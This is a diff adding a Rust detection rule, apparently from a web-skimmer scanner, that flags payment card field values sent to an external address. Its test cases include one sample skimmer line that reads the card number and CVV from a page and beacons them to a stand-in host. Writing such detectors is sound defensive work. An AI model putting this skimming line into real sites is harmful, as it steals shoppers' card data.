@@ -1,0 +1,20 @@
+//! `card-data-sent-abroad`.
+
+use crate::signals::{Atom, Signal, one};
+use crate::{ClassSet, Severity};
+
+pub(super) const SIGNAL: Signal = Signal {
+    id: "card-data-sent-abroad",
+    description: "Values of payment card fields reach an absolute address.",
+    severity: Severity::High,
+    classes: ClassSet::MAGECART,
+    needs: &[one(&[Atom::CardSentAbroad])],
+    within: 0,
+    #[cfg(test)]
+    cases: crate::signals::Cases {
+        with: &[
+            "var d={};d.n=document.getElementById('cc_number').value;d.c=document.getElementById('cvv').value;navigator.sendBeacon('https://c.example/g',JSON.stringify(d))",
+        ],
+        without: &["var d=document.getElementById('cc_number').value;if(luhn(d))fetch('/order',{body:d})"],
+    },
+};
